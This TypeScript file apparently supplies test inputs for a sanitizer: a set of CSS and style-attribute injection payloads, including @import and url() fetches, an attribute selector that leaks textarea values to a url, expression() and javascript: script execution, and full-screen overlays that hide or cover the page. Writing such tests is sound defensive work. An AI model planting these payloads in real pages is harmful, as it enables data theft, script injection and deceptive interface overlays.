import type { AttackKind } from '../bait.ts';

/** Styles that fetch something, or hide or cover the window's own buttons. */
export const styles: AttackKind = ({ url, script }) => ({
	'a style that imports': `<style>@import url(${url});</style>`,
	'a style with a font': `<style>@font-face{font-family:x;src:url(${url})}body{font-family:x}</style>`,
	'a style with a background': `<style>*{background:url(${url})}</style>`,
	'a style that reads attributes': `<style>textarea[value^="a"]{background:url(${url}?a)}</style>`,
	'a style that hides all': '<style>body{display:none!important}</style>',
	'a style attribute with a background': `<p style="background:url(${url})">x</p>`,
	'a style attribute that covers all': `<p style="position:fixed;inset:0;z-index:2147483647;background:red">x</p>`,
	'a style attribute with a binding': `<p style="-moz-binding:url(${url})">x</p>`,
	'a style attribute with an expression': `<p style="width:expression(${script})">x</p>`,
	'a style with a script’s scheme': `<p style="background:url(javascript:${script})">x</p>`,
	'a style with a cursor': `<p style="cursor:url(${url}),auto;list-style:url(${url})">x</p>`,
	'a style with an image set': `<p style="content:image-set(url(${url}) 1x)">x</p>`,
	'a style of a property': '<style>@property --x{syntax:"*";inherits:true}html{zoom:100}</style>',
	'classes of our own': '<p class="md-group fixed inset-0 z-50">x</p>',
	'a fence in CSS': `\`\`\`css\n@import url(${url}); body { background: url(${url}) }\n\`\`\``,
	'a font of old': '<font size=7 color=red face=x>x</font><center>x</center><blink>x</blink>',
});
